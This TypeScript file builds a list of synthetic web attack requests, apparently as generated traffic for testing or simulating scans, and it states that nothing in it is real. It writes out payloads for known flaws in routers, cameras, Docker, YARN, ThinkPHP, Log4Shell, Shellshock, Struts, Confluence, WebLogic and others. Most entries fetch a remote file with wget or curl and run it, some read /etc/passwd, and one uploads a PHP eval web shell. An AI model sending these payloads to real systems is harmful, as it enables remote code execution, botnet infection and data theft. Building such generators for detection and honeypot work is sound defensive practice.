// Web requests of many kinds, each with what differs from copy to copy really differing. Made up here; nothing is real.

import { common, fileName, form, host, json, kind, type PayloadKind, soap, url, web, xml } from './payload-parts.ts';

export const webKinds: readonly PayloadKind[] = [
  kind('http root, browser', (c) => web(c, 'GET', '/', { headers: common })),
  kind(
    'http root, zgrab',
    (c) => `GET / HTTP/1.1\r\nHost: ${host(c)}\r\nUser-Agent: zgrab/0.x\r\nAccept: */*\r\nAccept-Encoding: gzip\r\n\r\n`,
  ),
  kind('http root, version 1.0 bare', () => 'GET / HTTP/1.0\r\n\r\n'),
  kind('environment file', (c) => web(c, 'GET', '/.env', { headers: common })),
  kind('git configuration', (c) => web(c, 'GET', '/.git/config', { headers: common })),
  kind('jaws', (c) => web(c, 'GET', `/shell?cd+/tmp;rm+-rf+*;wget+${url(c)};sh+/tmp/${fileName(c)}`, { agent: 'Hello, world' })),
  kind('gpon command', (c) =>
    web(c, 'POST', '/GponForm/diag_Form?images/', {
      headers: form,
      body: `XWebPageName=diag&diag_action=ping&wan_conlist=0&dest_host=\`wget+${url(c)}+-O+/tmp/${fileName(c)};sh+/tmp/${fileName(c)}\`&ipv=0`,
    }),
  ),
  kind('gpon look', (c) => web(c, 'GET', '/GponForm/diag_Form?images/', { headers: common })),
  kind('hg532', (c) =>
    web(c, 'POST', '/ctrlt/DeviceUpgrade_1', {
      headers: `${common}Authorization: Digest username="dslf-config", nonce="${c.hex(32)}", response="${c.hex(32)}"\r\n`,
      body: soap(
        'Upgrade',
        `<NewStatusURL>$(/bin/busybox wget -g ${c.address()} -l /tmp/${fileName(c)} -r /${fileName(c)}; sh /tmp/${fileName(c)})</NewStatusURL><NewDownloadURL>$(echo HUAWEIUPNP)</NewDownloadURL>`,
      ),
    }),
  ),
  kind('realtek upnp', (c) =>
    web(c, 'POST', '/picsdesc.xml', {
      headers: `${common}SOAPAction: urn:schemas-upnp-org:service:WANIPConnection:1#AddPortMapping\r\n`,
      body: soap(
        'AddPortMapping',
        `<NewExternalPort>${c.digits(5)}</NewExternalPort><NewInternalClient>\`cd /var; wget ${url(c)}; sh ${fileName(c)}\`</NewInternalClient><NewLeaseDuration>0</NewLeaseDuration>`,
      ),
    }),
  ),
  kind('tr-064', (c) =>
    web(c, 'POST', '/UD/act?1', {
      headers: `${common}SOAPAction: urn:dslforum-org:service:Time:1#SetNTPServers\r\n`,
      body: soap(
        'SetNTPServers',
        `<NewNTPServer1>\`cd /tmp; wget ${url(c)}; chmod 777 ${fileName(c)}\`</NewNTPServer1><NewNTPServer2></NewNTPServer2>`,
      ),
    }),
  ),
  kind('hnap information', (c) => web(c, 'GET', '/HNAP1/', { headers: common })),
  kind('hnap action command', (c) =>
    web(c, 'POST', '/HNAP1/', {
      headers: `${xml}SOAPAction: http://purenetworks.com/HNAP1/\`cd /tmp && rm -rf * && wget ${url(c)} && sh ${fileName(c)}\`\r\n`,
      body: '',
    }),
  ),
  kind('hnap login', (c) =>
    web(c, 'POST', '/HNAP1/', {
      headers: `${xml}SOAPAction: "http://purenetworks.com/HNAP1/Login"\r\n`,
      body: soap(
        'Login',
        `<Action>request</Action><Username>${c.pick(['Admin', 'admin', 'user'])}</Username><LoginPassword></LoginPassword><Captcha></Captcha>`,
      ),
    }),
  ),
  kind('avtech', (c) =>
    web(
      c,
      'GET',
      `/cgi-bin/nobody/Search.cgi?action=cgi_query&ip=google.com&port=80&queryb64str=Lw==&username=admin%20;XmlAp%20r%20Account.User1.Password>$(cd%20/tmp;%20wget%20${url(c)}%20-O%20${fileName(c)})&password=admin`,
      { headers: common },
    ),
  ),
  kind('tvt', (c) =>
    web(c, 'POST', '/editBlackAndWhiteList', {
      headers: `${xml}Authorization: Basic YWRtaW46ezEyMjEzQkQxLTY5QzctNDg2Mi04NDNELTI2MDUwMEQxREE0MH0=\r\n`,
      body: `<?xml version="1.0" encoding="utf-8"?><request version="1.0" systemType="NVMS-9000"><types><filterTypeMode><enum>refuse</enum></filterTypeMode></types><content><item><ip>$(cd\${IFS}/tmp;wget\${IFS}${url(c)};sh\${IFS}${fileName(c)})</ip></item></content></request>`,
    }),
  ),
  kind('yarn application id', (c) => web(c, 'POST', '/ws/v1/cluster/apps/new-application', { headers: json, body: '' })),
  kind('yarn submit', (c) =>
    web(c, 'POST', '/ws/v1/cluster/apps', {
      headers: json,
      body: `{"application-id":"application_${c.digits(13)}_${c.digits(4)}","application-name":"${c.token()}","am-container-spec":{"commands":{"command":"curl ${url(c)} | sh"}},"application-type":"YARN"}`,
    }),
  ),
  kind('docker list', (c) =>
    web(c, 'GET', `/v1.${c.digits(2)}/containers/json`, { headers: common, agent: 'Go-http-client/1.1' }),
  ),
  kind('docker create', (c) =>
    web(c, 'POST', `/v1.${c.digits(2)}/containers/create?name=${c.token()}`, {
      headers: json,
      agent: 'Go-http-client/1.1',
      body: `{"Image":"alpine","Cmd":["/bin/sh","-c","apk add curl; curl -s ${url(c)} | sh"],"HostConfig":{"Binds":["/:/mnt"],"Privileged":true},"Hostname":"${c.hex(12)}"}`,
    }),
  ),
  kind('thinkphp', (c) =>
    web(
      c,
      'GET',
      `/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=system&vars[1][]=wget%20${url(c)}%20-O%20/tmp/${fileName(c)};sh%20/tmp/${fileName(c)}`,
      { headers: common },
    ),
  ),
  kind('thinkphp md5 test', (c) =>
    web(
      c,
      'GET',
      `/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=md5&vars[1][]=Hello${c.digits(4)}`,
      { headers: common },
    ),
  ),
  kind('phpunit', (c) =>
    web(c, 'POST', '/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php', {
      headers: common,
      body: `<?php echo md5("${c.hex(12)}"); system("curl ${url(c)}"); ?>`,
    }),
  ),
  kind('php-cgi options', (c) =>
    web(c, 'POST', '/?-d+allow_url_include%3don+-d+auto_prepend_file%3dphp://input', {
      headers: form,
      body: `<?php echo "${c.hex(20)}"; ?>`,
    }),
  ),
  kind('log4shell in agent', (c) => web(c, 'GET', '/', { headers: common, agent: `\${jndi:ldap://${host(c)}/${c.token()}}` })),
  kind('log4shell in query', (c) => web(c, 'GET', `/?x=\${jndi:ldap://${host(c)}/${c.token()}}`, { headers: common })),
  kind('shellshock', (c) =>
    web(c, 'GET', '/cgi-bin/status', {
      headers: common,
      agent: `() { :;}; /bin/bash -c "wget -q ${url(c)} -O /tmp/${fileName(c)}; sh /tmp/${fileName(c)}"`,
    }),
  ),
  kind('cgi status look', (c) => web(c, 'GET', '/cgi-bin/status', { headers: common })),
  kind('apache traversal', (c) =>
    web(c, 'POST', `/cgi-bin${'/.%2e'.repeat(4 + c.number(5))}/bin/sh`, {
      headers: common,
      body: `A=|echo;cd /tmp; wget ${url(c)}; sh ${fileName(c)}`,
    }),
  ),
  kind('apache traversal passwd', (c) =>
    web(c, 'GET', `/cgi-bin${'/.%2e'.repeat(4 + c.number(5))}/etc/passwd`, { headers: common }),
  ),
  kind('struts content type', (c) =>
    web(c, 'GET', '/struts2-showcase/index.action', {
      headers: `${common}Content-Type: %{(#nike='multipart/form-data').(#cmd='curl ${url(c)}').(#p=new java.lang.ProcessBuilder({'/bin/sh','-c',#cmd})).(#p.start())}\r\n`,
    }),
  ),
  kind('spring4shell', (c) =>
    web(c, 'POST', '/', {
      headers: form,
      body: `class.module.classLoader.resources.context.parent.pipeline.first.pattern=%25%7Bprefix%7Di%20${c.token()}&class.module.classLoader.resources.context.parent.pipeline.first.suffix=.jsp&class.module.classLoader.resources.context.parent.pipeline.first.prefix=${c.token()}`,
    }),
  ),
  kind('confluence ognl', (c) =>
    web(
      c,
      'GET',
      `/%24%7B%28%23a%3D%40org.apache.commons.io.IOUtils%40toString%28%40java.lang.Runtime%40getRuntime%28%29.exec%28%22curl%20${encodeURIComponent(url(c))}%22%29%29%29%7D/`,
      { headers: common },
    ),
  ),
  kind('weblogic wsat', (c) =>
    web(c, 'POST', '/wls-wsat/CoordinatorPortType', {
      headers: xml,
      body: `<soapenv:Envelope><work:WorkContext><java><void class="java.lang.ProcessBuilder"><array class="java.lang.String" length="3"><void index="0"><string>/bin/sh</string></void><void index="2"><string>wget ${url(c)}</string></void></array></void></java></work:WorkContext></soapenv:Envelope>`,
    }),
  ),
  kind('wordpress login', (c) =>
    web(c, 'POST', '/wp-login.php', {
      headers: form,
      body: `log=${c.pick(['admin', 'root', 'test', c.token(5)])}&pwd=${c.token(6, 12)}&wp-submit=Log+In`,
    }),
  ),
  kind('wordpress xml-rpc login', (c) =>
    web(c, 'POST', '/xmlrpc.php', {
      headers: xml,
      body: `<methodCall><methodName>wp.getUsersBlogs</methodName><params><param><value>${c.pick(['admin', 'root', c.token(5)])}</value></param><param><value>${c.token(6, 12)}</value></param></params></methodCall>`,
    }),
  ),
  kind('wordpress pingback', (c) =>
    web(c, 'POST', '/xmlrpc.php', {
      headers: xml,
      body: `<methodCall><methodName>pingback.ping</methodName><params><param><value><string>${url(c)}</string></value></param><param><value><string>${url(c)}</string></value></param></params></methodCall>`,
    }),
  ),
  kind('router login', (c) =>
    web(c, 'POST', '/boaform/admin/formLogin', {
      headers: form,
      body: `username=${c.pick(['admin', 'user', 'adminisp'])}&psd=${c.pick(['admin', 'adminisp', 'Feefifofum', c.token(6, 9)])}`,
    }),
  ),
  kind('router login with command', (c) =>
    web(c, 'POST', '/boaform/admin/formPing', {
      headers: form,
      body: `target_addr=;wget%20${url(c)}%20-O%20/tmp/${fileName(c)}&waninf=1_INTERNET_R_VID_${c.digits(3)}`,
    }),
  ),
  kind('f5 tmui', (c) =>
    web(c, 'GET', '/tmui/login.jsp/..;/tmui/locallb/workspace/fileRead.jsp?fileName=/etc/passwd', { headers: common }),
  ),
  kind('exchange autodiscover', (c) =>
    web(
      c,
      'GET',
      `/autodiscover/autodiscover.json?@${c.token(6).toLowerCase()}.com/owa/?&Email=autodiscover/autodiscover.json%3f@${c.token(6).toLowerCase()}.com`,
      { headers: common },
    ),
  ),
  kind('hikvision', (c) =>
    web(c, 'PUT', '/SDK/webLanguage', {
      headers: form,
      body: `<?xml version="1.0" encoding="UTF-8"?><language>$(wget ${url(c)} -O- | sh)</language>`,
    }),
  ),
  kind('proxy test', (c) =>
    web(c, 'GET', `http://${c.token(6).toLowerCase()}.example/azenv.php?t=${c.digits(10)}`, { headers: common }),
  ),
  kind('connect test', (c) => `CONNECT ${host(c)} HTTP/1.1\r\nHost: ${host(c)}\r\n\r\n`),
  kind('json-rpc block number', (c) =>
    web(c, 'POST', '/', {
      headers: json,
      body: `{"jsonrpc":"2.0","method":"eth_blockNumber","params":[],"id":${c.digits(1, 6)}}`,
    }),
  ),
  kind('web shell upload', (c) => {
    const boundary = `----WebKitFormBoundary${c.token(16)}`;
    return web(c, 'POST', '/uploadify/uploadify.php', {
      headers: `${common}Content-Type: multipart/form-data; boundary=${boundary}\r\n`,
      body: `--${boundary}\r\nContent-Disposition: form-data; name="Filedata"; filename="${c.token(6)}.php"\r\n\r\n<?php eval($_POST["${c.token(6)}"]); ?>\r\n--${boundary}--\r\n`,
    });
  }),
];
